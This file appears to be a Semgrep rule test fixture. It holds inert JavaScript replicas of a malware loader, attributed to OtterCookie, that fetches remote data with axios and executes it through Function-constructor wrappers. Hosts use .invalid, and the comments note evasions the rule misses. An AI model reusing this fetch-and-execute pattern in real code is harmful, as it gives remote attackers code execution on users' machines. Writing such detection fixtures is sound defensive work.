// Inert replicas of the errorHandler-wrapper loader (OtterCookie "Triple Fork", Estokkyam): hosts under .invalid.
const axios = require("axios");

const createHandler = (errCode) => {
  const handler = new Function.constructor("require", errCode);
  return handler;
};

// ruleid: remote-response-to-wrapper-code-execution
axios.get(atob(env.CONFIG_ENDPOINT)).then((res) => createHandler(res.data.cookie)(require));

function callHashedContract(url) {
  // Known gap: errorHandler is defined (hoisted) below the call.
  // todoruleid: remote-response-to-wrapper-code-execution
  axios.get(url).then((res) => errorHandler(res.data.cookie));
  // ok: remote-response-to-wrapper-code-execution
  axios.get(url).then((res) => logError(res.data.cookie));
}

async function loadSettings(url) {
  try {
    await axios.get(url);
  } catch (err) {
    // ruleid: remote-response-to-wrapper-code-execution
    createHandler(err.response.data);
  }
}

function errorHandler(error) {
  const handle = new Function.constructor("require", error);
  return handle(require);
}

function logError(error) {
  console.error(error);
  return new Function("return this")();
}

// ok: remote-response-to-wrapper-code-execution
createHandler("return 1");

// Known evasion: the wrapper lives in another module (cross-file needs Semgrep Pro or inspector's tree-sitter engine).
const { runHandler } = require("./handlers");
// todoruleid: remote-response-to-wrapper-code-execution
axios.get("https://api.npoint.invalid/x").then((res) => runHandler(res.data.cookie));
